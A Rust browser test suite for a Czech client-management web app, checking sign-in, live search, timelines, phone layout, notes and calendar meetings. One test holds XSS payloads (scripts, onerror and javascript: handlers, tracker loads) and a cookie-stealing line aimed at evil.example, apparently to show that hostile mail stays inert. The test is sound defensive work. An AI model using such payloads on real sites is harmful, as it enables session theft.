//! The web interface in a real browser: headless Chromium driven over WebDriver.
//!
//! What these tests need at run time: Debian's `chromium` and
//! `chromium-driver` (`/usr/bin/chromium`, `/usr/bin/chromedriver`;
//! `sh tests/run.sh` installs them when missing). Nothing else: no display
//! (Chromium runs headless), no network (the browser talks only to the
//! test's server on 127.0.0.1, with background networking off). Without
//! them the tests fail and say how to install them; they are never skipped.
//!
//! Every test also reads the browser's console: a script error, anything
//! the Content-Security-Policy refused (an inline style or script) or a
//! failed load fails it (the missing favicon aside).
//!
//! Screenshots of the pages are saved to `target/screenshots/NAME.png` for
//! review (`docs/screenshots/` holds copies for the README); when a wait
//! fails, `NAME-failure.png` shows what the browser showed, and
//! `target/browser/` holds chromedriver's logs.

use std::collections::HashSet;
use std::io::{BufRead, BufReader, Write};

use crate::common::browser::{Chrome, Size};
use crate::common::web::{Server, example_env};
use crate::common::{Env, fixtures};

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap()
}

/// The id of a client, read from its link on the clients list.
async fn client_id(c: &Chrome, name: &str) -> i64 {
    c.goto("/clients").await;
    let link = c.wait_text("#client-rows a", name).await;
    let href = link.attr("href").await.unwrap().unwrap_or_default();
    href.trim_start_matches("/clients/").parse().unwrap_or_else(|_| panic!("a card link: {href}"))
}

/// Fails when the browser's console has errors since the last look: a
/// script error, something the Content-Security-Policy refused, a failed
/// load. `expected` are parts of messages the test caused on purpose; the
/// missing favicon is not counted.
async fn assert_console_clean(c: &Chrome, expected: &[&str]) {
    let errors: Vec<String> = c
        .console_errors()
        .await
        .into_iter()
        .filter(|m| !m.contains("/favicon.ico") && !expected.iter().any(|e| m.contains(e)))
        .collect();
    assert!(errors.is_empty(), "the browser's console has errors: {errors:#?}");
}

/// The timeline's entries as the browser shows them (date, kind, who, subject).
async fn timeline_entries(c: &Chrome) -> Vec<String> {
    c.texts("#timeline li.entry").await
}

#[test]
fn sign_in_search_as_you_type_and_the_card() {
    let env = example_env();
    let server = Server::start(&env);
    runtime().block_on(async {
        let c = Chrome::start(&server.url(""), Size::Desktop, "desktop").await;
        assert_eq!(c.js("return [window.innerWidth, window.innerHeight]").await, serde_json::json!([1280, 900]));

        // Signed out, every page leads to the sign-in form.
        c.goto("/clients").await;
        c.wait("form.login input[name=user]").await;
        assert_eq!(c.path().await, "/login");
        c.screenshot("login").await;

        // A wrong password keeps you out and says so.
        c.type_into("form.login input[name=user]", "jana").await;
        c.type_into("form.login input[name=password]", "spatne-heslo").await;
        c.click("form.login button").await;
        c.wait("form.login .error").await;
        assert_eq!(c.path().await, "/login");
        assert_console_clean(&c, &["/login - Failed to load resource: the server responded with a status of 401"])
            .await;

        c.sign_in("jana", "tajne-heslo-1").await;
        c.wait("header.top nav").await;
        c.wait_text("header.top .who", "jana").await;

        // The clients list; the search filters as you type, by htmx, without a reload.
        c.goto("/clients").await;
        c.wait_text("#client-rows", "Acme Stavby s.r.o.").await;
        let all = c.texts("#client-rows tbody tr").await;
        assert!(all.len() >= 3, "the example clients: {all:?}");
        c.screenshot("clients").await;
        c.mark_page().await;
        c.type_into("form.search input[type=search]", "pekarna").await;
        c.wait_until(
            "only Pekárna is listed for \"pekarna\"",
            "const rows = Array.from(document.querySelectorAll('#client-rows tbody tr'));
             return rows.length >= 1 && rows.every(r => r.innerText.includes('Pekárna'));",
        )
        .await;
        c.wait_text("#client-rows a", "Pekárna Novák s.r.o.").await;
        assert!(c.same_page().await, "the list changed in place, the page was not reloaded");
        assert!(c.path().await.contains("q=pekarna"), "the address follows the search: {}", c.path().await);
        c.screenshot("clients-search").await;

        // With the accents, the same client.
        c.type_into("form.search input[type=search]", "Pekárna").await;
        c.wait_until(
            "the list answers \"Pekárna\"",
            "return new URLSearchParams(location.search).get('q') === 'Pekárna';",
        )
        .await;
        c.wait_until(
            "only Pekárna is listed for \"Pekárna\"",
            "const rows = Array.from(document.querySelectorAll('#client-rows tbody tr'));
             return rows.length >= 1 && rows.every(r => r.innerText.includes('Pekárna Novák'));",
        )
        .await;
        assert!(c.same_page().await, "still no reload");

        // Something that matches nobody empties the list.
        c.type_into("form.search input[type=search]", "zadny-takovy-klient").await;
        c.wait("#client-rows .empty").await;

        // Acme's card: company, contacts, figures, timeline.
        c.type_into("form.search input[type=search]", "acme").await;
        c.wait_until(
            "only Acme is listed for \"acme\"",
            "const rows = Array.from(document.querySelectorAll('#client-rows tbody tr'));
             return new URLSearchParams(location.search).get('q') === 'acme'
                 && rows.length >= 1 && rows.every(r => r.innerText.includes('Acme'));",
        )
        .await;
        c.click_text("#client-rows a", "Acme Stavby s.r.o.").await;
        c.wait_text("h1", "Acme Stavby s.r.o.").await;
        assert!(c.path().await.starts_with("/clients/"), "{}", c.path().await);
        c.wait_text("section.company", "27468135").await;
        c.wait_text("section.contacts", "Karel Horák").await;
        c.wait_text("section.figures", "237").await;
        c.wait("section.history #timeline li.entry").await;
        c.screenshot("card").await;

        // The timeline: scrolled to its end, it loads more (when the last
        // entry is revealed, or by its "load more" link), nothing twice.
        c.mark_page().await;
        let first = timeline_entries(&c).await;
        assert!(first.len() >= 30, "a first page of 30: {}", first.len());
        let mut shown = first.len();
        let mut rounds = 0;
        while c.js("return document.querySelector('#timeline li.more') !== null").await == true {
            rounds += 1;
            assert!(rounds < 30, "the timeline never ends");
            c.scroll_to("#timeline li.more").await;
            c.js("window.scrollTo(0, document.documentElement.scrollHeight); return true;").await;
            let grew = format!("return document.querySelectorAll('#timeline li.entry').length > {shown};");
            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(2);
            let mut loaded = false;
            while std::time::Instant::now() < deadline {
                if c.js(&grew).await == true {
                    loaded = true;
                    break;
                }
                tokio::time::sleep(std::time::Duration::from_millis(100)).await;
            }
            if !loaded {
                // Not loaded on reveal: the link does it.
                if let Ok(link) = c.client.find(fantoccini::Locator::Css("#timeline li.more a")).await {
                    link.click().await.unwrap();
                }
                c.wait_until("the timeline loads more", &grew).await;
            }
            // Wait for the swap to settle (the new page's own "more" or the end).
            c.wait_until(
                "the loaded page settles",
                "return !document.querySelector('#timeline li.more.htmx-request, #timeline li.more .htmx-request');",
            )
            .await;
            shown = timeline_entries(&c).await.len();
        }
        assert!(rounds >= 1, "the first page had more after it");
        let all = timeline_entries(&c).await;
        assert!(all.len() > first.len(), "more entries loaded: {} then {}", first.len(), all.len());
        assert_eq!(&all[..first.len()], &first[..], "the first page stays as it was");
        let mut seen = HashSet::new();
        for e in &all {
            assert!(seen.insert(e), "an entry twice: {e}");
        }
        assert!(c.same_page().await, "the card was not reloaded to load more");
        c.screenshot("card-timeline-end").await;

        // The sales chart is drawn (an SVG image the policy lets load).
        c.wait_until(
            "the chart drawn",
            "const i = document.querySelector('section.chart img'); return !!i && i.complete && i.naturalWidth > 0;",
        )
        .await;

        // The timeline filtered by kind, in place: only the deal.
        c.mark_page().await;
        c.wait("form.filters select[name=kind]").await.select_by_value("deal").await.unwrap();
        c.wait_until(
            "only deals in the timeline",
            "const all = Array.from(document.querySelectorAll('#timeline li.entry'));
             return new URLSearchParams(location.search).get('kind') === 'deal'
                 && all.length > 0 && all.every(e => e.classList.contains('deal'));",
        )
        .await;
        c.wait_text("#timeline li.entry.deal", "Rekuperace hala B").await;
        assert!(c.same_page().await, "filtered in place");
        c.wait("form.filters select[name=kind]").await.select_by_value("").await.unwrap();
        c.wait_until("every kind again", "return document.querySelectorAll('#timeline li.entry.email').length > 0;")
            .await;

        // The language switch in the header: the same card, in Czech.
        c.js("window.scrollTo(0, 0); return true;").await;
        c.click("header.top form[action='/lang'] button").await;
        c.wait_text("header.top nav", "Klienti").await;
        c.wait_text("section.contacts h2", "Kontaktní osoby").await;
        c.wait_text("h1", "Acme Stavby s.r.o.").await;
        assert_console_clean(&c, &[]).await;
    });
}

/// Fails with the elements that stick out when the page scrolls sideways.
async fn assert_no_horizontal_scroll(c: &Chrome, page: &str) {
    let width = c.js("return window.innerWidth").await;
    assert_eq!(width, 390, "{page}: the phone's viewport (the page does not zoom out to fit)");
    let fits = c.js("return document.documentElement.scrollWidth <= window.innerWidth").await;
    if fits != true {
        let wide = c
            .js("return Array.from(document.querySelectorAll('body *'))
                   .filter(e => e.getBoundingClientRect().right > window.innerWidth + 0.5)
                   .slice(0, 10)
                   .map(e => e.tagName.toLowerCase() + (e.className ? '.' + e.className : '')
                        + ' (' + Math.round(e.getBoundingClientRect().right) + ' px)');")
            .await;
        let scroll = c.js("return document.documentElement.scrollWidth").await;
        panic!("{page} scrolls sideways at 390 px (scrollWidth {scroll}); what sticks out: {wide}");
    }
}

/// True when the element is shown and lies within the viewport's width.
async fn within_width(c: &Chrome, css: &str) -> bool {
    c.wait(css).await;
    c.js_with(
        "const r = document.querySelector(arguments[0]).getBoundingClientRect();
         return r.width > 0 && r.left >= 0 && r.right <= window.innerWidth + 0.5;",
        vec![serde_json::json!(css)],
    )
    .await
        == true
}

#[test]
fn the_card_at_phone_width() {
    let env = example_env();
    let server = Server::start(&env);
    runtime().block_on(async {
        let c = Chrome::start(&server.url(""), Size::Phone, "phone").await;
        c.sign_in("jana", "tajne-heslo-1").await;

        c.goto("/clients").await;
        c.wait_text("#client-rows", "Acme Stavby s.r.o.").await;
        assert_no_horizontal_scroll(&c, "the clients list").await;
        c.screenshot("clients-phone").await;

        c.click_text("#client-rows a", "Acme Stavby s.r.o.").await;
        c.wait_text("h1", "Acme Stavby s.r.o.").await;
        c.wait("section.history #timeline li.entry").await;
        // The measure can fail: something 600 px wide makes the page wider
        // than the phone (which then zooms out to fit it: the viewport
        // grows, so the viewport's width is checked too).
        let probe = c
            .js("const d = document.createElement('div'); d.id = 'probe'; d.style.width = '600px'; d.style.height = '1px';
                 document.querySelector('main').appendChild(d);
                 const r = [document.documentElement.scrollWidth, window.innerWidth]; d.remove(); return r;")
            .await;
        assert!(probe[0].as_u64() > Some(390), "a wide element is seen: {probe}");
        c.wait_until("the phone's viewport back at 390 px once the probe is gone", "return window.innerWidth === 390;").await;
        assert_no_horizontal_scroll(&c, "the card").await;

        // The navigation is on screen and works by touch.
        for link in
            ["header.top nav a[href='/clients']", "header.top nav a[href='/today']", "header.top nav a[href='/search']"]
        {
            assert!(within_width(&c, link).await, "{link} is on screen at 390 px");
        }
        assert!(within_width(&c, "header.top form[action='/logout'] button").await, "sign-out is on screen");
        c.wait_text("section.company", "27468135").await;
        assert!(within_width(&c, "section.company").await);
        assert!(within_width(&c, "section.contacts").await);
        assert!(within_width(&c, "section.figures").await);
        c.screenshot("card-phone").await;

        // The timeline: scrolled to, its entries are within the width, and
        // it loads more there too.
        c.scroll_to("#timeline li.entry").await;
        assert!(within_width(&c, "#timeline li.entry").await, "the timeline is on screen");
        c.wait("#timeline li.entry .subject").await;
        let before = timeline_entries(&c).await.len();
        c.scroll_to("#timeline li.more").await;
        c.js("window.scrollTo(0, document.documentElement.scrollHeight); return true;").await;
        let grew = format!("return document.querySelectorAll('#timeline li.entry').length > {before};");
        tokio::time::sleep(std::time::Duration::from_secs(1)).await;
        if c.js(&grew).await != true {
            c.click("#timeline li.more a").await;
        }
        c.wait_until("the timeline loads more at phone width", &grew).await;
        assert_no_horizontal_scroll(&c, "the card with more of its timeline").await;
        c.screenshot("card-phone-timeline").await;

        // Back to the list through the navigation.
        c.js("window.scrollTo(0, 0); return true;").await;
        c.click("header.top nav a[href='/clients']").await;
        c.wait_until("the clients list opened from the navigation", "return location.pathname === '/clients';").await;

        // The other pages fit the phone too.
        let acme = client_id(&c, "Acme Stavby s.r.o.").await;
        for page in [
            "/today".to_string(),
            "/search?q=nabidka".into(),
            format!("/brief/{acme}"),
            "/clients/new".into(),
            format!("/clients/{acme}/notes/new"),
        ] {
            c.goto(&page).await;
            c.wait("main h1").await;
            assert_no_horizontal_scroll(&c, &page).await;
        }
        c.goto("/today").await;
        c.wait("section#week").await;
        c.screenshot("today-phone").await;
        assert_console_clean(&c, &[]).await;
    });
}

#[test]
fn today_and_the_meeting_brief() {
    let env = example_env();
    let server = Server::start(&env);
    runtime().block_on(async {
        let c = Chrome::start(&server.url(""), Size::Desktop, "today").await;
        c.sign_in("jana", "tajne-heslo-1").await;
        c.click("header.top nav a[href='/today']").await;
        c.wait_until("the Today page opened from the navigation", "return location.pathname === '/today';").await;
        for part in ["#today", "#week", "#reminders", "#waiting", "#silent"] {
            c.wait(&format!("section{part}")).await;
        }
        // The weekly call with Acme (the example calendar) is within the week.
        let meeting = c.wait_text("section.agenda li.meeting", "Týdenní call s Acme").await;
        c.screenshot("today").await;

        // Its brief: the meeting, the client, the contacts.
        meeting.find(fantoccini::Locator::Css("a.brief-link")).await.unwrap().click().await.unwrap();
        c.wait_until("the brief opened", "return location.pathname.startsWith('/brief/');").await;
        c.wait_text("article.brief h1", "Acme Stavby s.r.o.").await;
        c.wait_text("section#meeting", "Týdenní call s Acme").await;
        c.wait_text("section#client", "27468135").await;
        c.wait_text("section#contacts", "Karel Horák").await;
        c.wait("section#recent").await;
        c.screenshot("brief").await;

        // The brief without a meeting, for the client as a whole, and back to the card.
        let acme = client_id(&c, "Acme Stavby s.r.o.").await;
        c.goto(&format!("/brief/{acme}")).await;
        c.wait_text("article.brief h1", "Acme Stavby s.r.o.").await;
        c.wait("section#meeting").await;
        c.click(&format!("article.brief a[href='/clients/{acme}']")).await;
        c.wait_text("section.company", "27468135").await;
        assert_console_clean(&c, &[]).await;
    });
}

/// A tiny ARES: `GET /ekonomicke-subjekty/ICO` answers `fixtures/ares/ICO.json`
/// (404 as ARES says it for any other), on 127.0.0.1:0; runs until the test ends.
fn ares_server() -> String {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            std::thread::spawn(move || {
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut line = String::new();
                if reader.read_line(&mut line).is_err() {
                    return;
                }
                loop {
                    let mut header = String::new();
                    if reader.read_line(&mut header).unwrap_or(0) == 0 || header.trim().is_empty() {
                        break;
                    }
                }
                let path = line.split_whitespace().nth(1).unwrap_or_default();
                let ico = path.strip_prefix("/ekonomicke-subjekty/").unwrap_or_default();
                let file = fixtures().join("ares").join(format!("{ico}.json"));
                let (status, body) = match std::fs::read_to_string(&file) {
                    Ok(json) if !ico.is_empty() && ico.bytes().all(|b| b.is_ascii_digit()) => (200, json),
                    _ => (
                        404,
                        r#"{"kod":"NENALEZENO","popis":"Ekonomický subjekt nebyl nalezen.","subKod":"VYSTUP_SUBJEKT_NENALEZEN"}"#
                            .to_string(),
                    ),
                };
                let mut stream = stream;
                let head = format!(
                    "HTTP/1.1 {status} X\r\nContent-Type: application/json; charset=utf-8\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                );
                let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(body.as_bytes()));
            });
        }
    });
    base
}

/// The example data with ARES at `ares` and a notes folder (notes written
/// on the web are filed there).
fn editing_env(ares: &str) -> Env {
    let env = example_env();
    std::fs::create_dir_all(env.path().join("notes")).unwrap();
    let mut config = std::fs::read_to_string(env.config_path()).unwrap();
    config.push_str(&format!(
        "\n[ares]\nbase_url = {ares:?}\ntimeout = \"5s\"\n\n[[notes]]\nname = \"poznamky\"\npath = \"notes\"\nkind = \"call\"\n"
    ));
    std::fs::write(env.config_path(), config).unwrap();
    env
}

#[test]
fn a_client_from_its_ico_and_a_note_on_the_card() {
    let ares = ares_server();
    let env = editing_env(&ares);
    let server = Server::start(&env);
    runtime().block_on(async {
        let c = Chrome::start(&server.url(""), Size::Desktop, "editing").await;
        c.sign_in("jana", "tajne-heslo-1").await;

        // A new client: typing the IČO fills the form from ARES.
        c.goto("/clients/new").await;
        c.wait("form.edit #f-ico").await;
        c.mark_page().await;
        c.type_into("#f-ico", "29458170").await;
        c.wait_until(
            "the name filled from ARES",
            "const f = document.querySelector('#f-name'); return !!f && f.value === 'Železářství Řezníček, v.o.s. v likvidaci';",
        )
        .await;
        c.wait_until(
            "the address filled from ARES",
            "const f = document.querySelector('#f-address'); return !!f && f.value.includes('Dolní Lhota 47');",
        )
        .await;
        c.wait("#ares-fields .ares-message").await;
        assert!(c.same_page().await, "filled in place, without a reload");
        c.screenshot("client-new").await;
        c.click("form.edit .actions button").await;
        c.wait_text("h1", "Železářství Řezníček").await;
        assert!(c.path().await.starts_with("/clients/"), "saved, on its card: {}", c.path().await);
        c.wait_text("section.company", "29458170").await;
        c.wait_text("section.company", "Dolní Lhota 47").await;

        // A call note on Acme's card: written, saved, seen in the timeline.
        let acme = client_id(&c, "Acme Stavby s.r.o.").await;
        c.goto(&format!("/clients/{acme}/notes/new")).await;
        c.wait("form.edit textarea[name=text]").await;
        c.type_into(
            "form.edit textarea[name=text]",
            "Telefonát s Karlem o rekuperaci\nPošleme cenovou nabídku na halu C do pátku.",
        )
        .await;
        c.screenshot("note-new").await;
        c.click("form.edit .actions button").await;
        c.wait_until("back on the card", &format!("return location.pathname === '/clients/{acme}';")).await;
        let entry = c.wait_text("#timeline li.entry", "Telefonát s Karlem o rekuperaci").await;
        let text = entry.text().await.unwrap();
        assert!(text.contains("halu C"), "the note's text on the card: {text}");
        c.js("Array.from(document.querySelectorAll('#timeline li.entry'))
                 .find(e => e.innerText.includes('Telefonát s Karlem')).scrollIntoView({block: 'center'}); return true;")
            .await;
        c.screenshot("card-with-note").await;
        // The note is a file in the notes folder, as `kronika note add` writes it.
        let files: Vec<_> = std::fs::read_dir(env.path().join("notes")).unwrap().flatten().collect();
        assert_eq!(files.len(), 1, "one note file");

        // While the card is open, a note comes from elsewhere (`kronika note
        // add`): the card shows it on its own, marked new, without a reload.
        c.mark_page().await;
        env.ok(&["note", "add", "acme", "--kind", "meeting", "Schůzka na stavbě zapsaná v terminálu\nProšli jsme halu C."]);
        let live = c.wait_text("#timeline li.entry.new", "Schůzka na stavbě zapsaná v terminálu").await;
        assert!(c.same_page().await, "the new entry came in place");
        assert!(live.is_displayed().await.unwrap());
        let count = c.texts("#timeline li.entry").await.iter().filter(|t| t.contains("zapsaná v terminálu")).count();
        assert_eq!(count, 1, "the new note once");
        assert_console_clean(&c, &[]).await;
    });
}

/// The search page's hits (kind, date, who, clients, subject, snippet).
async fn hits(c: &Chrome) -> Vec<String> {
    c.texts("#search-results li.hit").await
}

#[test]
fn search_with_and_without_accents() {
    let env = example_env();
    let server = Server::start(&env);
    runtime().block_on(async {
        let c = Chrome::start(&server.url(""), Size::Desktop, "search").await;
        c.sign_in("jana", "tajne-heslo-1").await;
        c.click("header.top nav a[href='/search']").await;
        c.wait_until("the search page opened from the navigation", "return location.pathname === '/search';").await;
        c.wait("form.search-form input[name=q]").await;
        c.mark_page().await;

        // Without accents: the offers are found, "nabídka" marked in them.
        c.type_into("form.search-form input[name=q]", "nabidka").await;
        c.wait_until(
            "results for \"nabidka\"",
            "return new URLSearchParams(location.search).get('q') === 'nabidka'
                 && document.querySelectorAll('#search-results li.hit').length > 0;",
        )
        .await;
        c.wait_text("#search-results li.hit .subject", "cenová nabídka").await;
        c.wait_until(
            "\"nabídka\" highlighted",
            "return Array.from(document.querySelectorAll('#search-results li.hit mark'))
                 .some(m => m.innerText.toLowerCase() === 'nabídka');",
        )
        .await;
        assert!(c.same_page().await, "the results came in place, without a reload");
        let plain = hits(&c).await;
        c.screenshot("search").await;

        // With accents: the same hits.
        c.type_into("form.search-form input[name=q]", "nabídka").await;
        c.wait_until(
            "results for \"nabídka\"",
            "return new URLSearchParams(location.search).get('q') === 'nabídka'
                 && document.querySelectorAll('#search-results li.hit').length > 0;",
        )
        .await;
        c.wait_until(
            "\"nabídka\" highlighted",
            "return Array.from(document.querySelectorAll('#search-results li.hit mark'))
                 .some(m => m.innerText.toLowerCase() === 'nabídka');",
        )
        .await;
        let accented = hits(&c).await;
        let (mut a, mut b) = (plain.clone(), accented.clone());
        a.sort();
        b.sort();
        assert_eq!(a, b, "accents or not, the same hits");
        assert!(c.same_page().await, "still no reload");

        // A word nobody wrote finds nothing, and says so.
        c.type_into("form.search-form input[name=q]", "zzzxqwy").await;
        c.wait("#search-results p.empty").await;
        assert!(hits(&c).await.is_empty());

        // A hit opens its item.
        c.type_into("form.search-form input[name=q]", "nabidka").await;
        c.click_text("#search-results li.hit .subject a", "cenová nabídka").await;
        c.wait_until("the item opened", "return location.pathname.startsWith('/items/');").await;
        c.wait_text("main", "nabídka").await;
        // Typing on replaces a search still on its way (`hx-sync="this:replace"`):
        // on a slow machine htmx logs that abort, which is the design, not a fault.
        assert_console_clean(&c, &["htmx:sendAbort", "htmx:afterRequest"]).await;
    });
}

/// A listener that counts every connection made to it (answering each with
/// an empty 200): any request a page makes to it is something that leaked.
fn tracker() -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let count = std::sync::Arc::clone(&hits);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    (base, hits)
}

/// An HTML newsletter from Acme whose every part tries to run or to load
/// something from `tracker`.
fn hostile_html(tracker: &str) -> String {
    let date = chrono::Local::now().to_rfc2822();
    format!(
        "From: Karel Horák <karel.horak@acme-stavby.cz>\r\n\
To: jana.svobodova@modrykamen.cz\r\n\
Subject: Newsletter s překvapením\r\n\
Date: {date}\r\n\
Message-ID: <hostile-html-1@acme-stavby.cz>\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/alternative; boundary=\"b1\"\r\n\
\r\n\
--b1\r\n\
Content-Type: text/plain; charset=utf-8\r\n\
\r\n\
Novinky z Acme.\r\n\
--b1\r\n\
Content-Type: text/html; charset=utf-8\r\n\
\r\n\
<html><head><meta http-equiv=\"refresh\" content=\"0;url={tracker}/refresh\">\
<link rel=\"stylesheet\" href=\"{tracker}/style.css\"><style>@import url({tracker}/import.css);</style></head>\
<body onload=\"alert(5)\"><h2>Novinky z Acme</h2>\
<script>alert(6); parent.document.title = 'pwned'; top.location = '{tracker}/top';</script>\
<img src=\"{tracker}/pixel.gif\" width=\"1\" height=\"1\"><img src=\"x\" onerror=\"alert(7)\">\
<div style=\"background-image: url({tracker}/bg.png)\">Sleva na rekuperace.</div>\
<iframe src=\"{tracker}/frame\"></iframe><object data=\"{tracker}/object\"></object>\
<form action=\"{tracker}/form\"><input name=\"q\"></form>\
<a href=\"javascript:alert(8)\">klik</a></body></html>\r\n\
--b1--\r\n"
    )
}

#[test]
fn hostile_mail_stays_inert_in_the_browser() {
    let (tracker_url, tracker_hits) = tracker();
    let env = example_env();
    std::fs::write(env.path().join("maildir/new/1794600000.M1P1Q1.hostile-html"), hostile_html(&tracker_url)).unwrap();
    env.ok(&["sync"]);
    let server = Server::start(&env);
    runtime().block_on(async {
        let c = Chrome::start(&server.url(""), Size::Desktop, "hostile").await;
        c.sign_in("jana", "tajne-heslo-1").await;
        let acme = client_id(&c, "Acme Stavby s.r.o.").await;
        c.goto(&format!("/clients/{acme}")).await;
        c.wait("#timeline li.entry").await;

        // The plain hostile message: its subject is text on the card, and
        // its page shows the script as text; nothing runs.
        c.click_text("#timeline li.entry .subject a", "<script>alert(1)</script> Faktura").await;
        c.wait_until("the item opened", "return location.pathname.startsWith('/items/');").await;
        c.wait_text("main h1", "<script>alert(1)</script> Faktura").await;
        c.wait_text("main", "document.location='http://evil.example/?c='+document.cookie").await;
        assert!(c.client.get_alert_text().await.is_err(), "no alert is open");
        assert_eq!(c.js("return document.querySelectorAll('main script, main img').length").await, 0);

        // The HTML newsletter: shown in a sandboxed frame, where nothing
        // runs and nothing loads from elsewhere.
        c.goto(&format!("/clients/{acme}")).await;
        c.click_text("#timeline li.entry .subject a", "Newsletter s překvapením").await;
        c.wait_until("the item opened", "return location.pathname.startsWith('/items/');").await;
        let item = c.path().await;
        c.click("main p.views a").await;
        let frame = c.wait("iframe.mail-html").await;
        assert_eq!(frame.attr("sandbox").await.unwrap().as_deref(), Some(""), "the frame may do nothing");
        // Load the frame again with a listener in place, and wait until it
        // has loaded (its images and styles included).
        c.js("const f = document.querySelector('iframe.mail-html');
              window.__frameLoaded = false;
              f.addEventListener('load', () => { window.__frameLoaded = true; });
              f.src = f.src; return true;")
            .await;
        c.wait_until("the mail's frame loaded", "return window.__frameLoaded === true;").await;
        c.screenshot("item-html").await;
        assert!(c.client.get_alert_text().await.is_err(), "no alert is open");
        assert_eq!(c.js("return document.title").await.as_str().map(|t| t.contains("pwned")), Some(false));
        assert!(c.path().await.starts_with(&item), "the page was not taken elsewhere: {}", c.path().await);
        assert_eq!(
            tracker_hits.load(std::sync::atomic::Ordering::SeqCst),
            0,
            "the mail loaded nothing from elsewhere (images, styles, frames, refresh)"
        );
        // And the tracker is reachable: the browser itself gets there when
        // sent (so the zero above is the page's doing, not the network's).
        c.client.goto(&format!("{tracker_url}/direct")).await.unwrap();
        let start = std::time::Instant::now();
        while tracker_hits.load(std::sync::atomic::Ordering::SeqCst) == 0 {
            assert!(start.elapsed() < crate::common::browser::WAIT, "the browser never reached the tracker");
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
    });
}

/// The example data with a CalDAV account on a private Radicale.
fn meeting_env(server: &crate::common::radicale::Radicale) -> Env {
    let env = example_env();
    let mut config = std::fs::read_to_string(env.config_path()).unwrap();
    config.push_str(&format!(
        "\n[[caldav]]\nname = \"jana-cal\"\nurl = {:?}\nusername = {:?}\npassword_cmd = \"printf '%s' '{}'\"\ncalendars = [\"Práce\"]\n",
        server.url("/"),
        server.user,
        server.password
    ));
    std::fs::write(env.config_path(), config).unwrap();
    env
}

#[test]
fn a_meeting_planned_on_the_card_lands_in_the_calendar() {
    let radicale = crate::common::radicale::Radicale::start();
    radicale.make_calendar("prace", "Práce");
    let env = meeting_env(&radicale);
    let server = Server::start(&env);
    runtime().block_on(async {
        let c = Chrome::start(&server.url(""), Size::Desktop, "meeting").await;
        c.sign_in("jana", "tajne-heslo-1").await;
        let acme = client_id(&c, "Acme Stavby s.r.o.").await;
        c.goto(&format!("/clients/{acme}")).await;
        c.click_text("p.actions a", "Plan a meeting").await;
        c.wait("form.edit input[name=at]").await;
        // The client's first contact is invited unless the user says otherwise.
        let invited = c.js("return document.querySelector('form.edit textarea[name=with]').value;").await;
        assert!(invited.as_str().is_some_and(|v| v.contains('@')), "{invited}");
        c.js("const at = document.querySelector('form.edit input[name=at]');
              const d = new Date(Date.now() + 9 * 86400000);
              const p = n => String(n).padStart(2, '0');
              at.value = `${d.getFullYear()}-${p(d.getMonth() + 1)}-${p(d.getDate())}T10:00`;
              document.querySelector('form.edit select[name=duration]').value = '90m';
              return true;")
            .await;
        c.type_into("form.edit input[name=title]", "Předání stavby – hala C").await;
        c.screenshot("meeting-new").await;
        c.click("form.edit .actions button").await;
        c.wait_until("back on the card", &format!("return location.pathname === '/clients/{acme}';")).await;
        c.wait_text("section.events", "Předání stavby – hala C").await;
        c.screenshot("card-with-meeting").await;
        assert_console_clean(&c, &[]).await;

        // A time that cannot be read comes back beside its field.
        c.goto(&format!("/clients/{acme}/meetings/new")).await;
        c.js("document.querySelector('form.edit input[name=at]').type = 'text';
              document.querySelector('form.edit input[name=at]').value = 'zítra';
              return true;")
            .await;
        c.click("form.edit .actions button").await;
        c.wait_text("form.edit .error", "YYYY-MM-DD HH:MM").await;
    });
    // On the server: one event, the title, the invited contact, us as organiser.
    let objects = radicale.objects("prace");
    assert_eq!(objects.len(), 1, "{objects:?}");
    let ics = objects[0].1.replace("\r\n ", "").replace("\n ", "");
    assert!(ics.contains("SUMMARY:Předání stavby – hala C"), "{ics}");
    assert!(ics.contains("ORGANIZER:mailto:jana.svobodova@modrykamen.cz"), "{ics}");
    assert!(ics.contains("ATTENDEE"), "{ics}");

    // At phone width the form fits the screen.
    runtime().block_on(async {
        let c = Chrome::start(&server.url(""), Size::Phone, "meeting-phone").await;
        c.sign_in("jana", "tajne-heslo-1").await;
        let acme = client_id(&c, "Acme Stavby s.r.o.").await;
        c.goto(&format!("/clients/{acme}/meetings/new")).await;
        c.wait("form.edit select[name=calendar]").await;
        assert_no_horizontal_scroll(&c, "the meeting form").await;
        assert!(within_width(&c, "form.edit .actions button").await);
        c.screenshot("meeting-new-phone").await;
        assert_console_clean(&c, &[]).await;
    });
}
